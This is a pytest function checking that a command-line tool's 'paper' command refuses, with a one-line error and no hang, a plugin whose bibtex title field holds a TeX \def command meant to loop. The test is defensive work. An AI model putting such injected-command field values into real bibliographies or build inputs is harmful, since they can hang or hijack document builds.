def test_peftlab_paper_refuses_a_looping_entry_in_one_line_and_never_hangs(tmp_path):
    study = plugin_study(tmp_path, LOOP)
    env = dict(os.environ, PYTHONPATH=str(REPO / "src"), PEFTLAB_PROGRAM_SECONDS="120")
    done = subprocess.run(
        [sys.executable, "-m", "peftlab.cli", "paper", str(study), "--out", str(tmp_path / "paper")],
        capture_output=True,
        text=True,
        env=env,
        timeout=400,
    )
    assert done.returncode == 2, done.stderr[-2000:]
    assert done.stderr.startswith("peftlab: error: ") and done.stderr.count("\n") == 1, done.stderr
    assert "provenance.plugin.bibtex field title holds the command \\def" in done.stderr
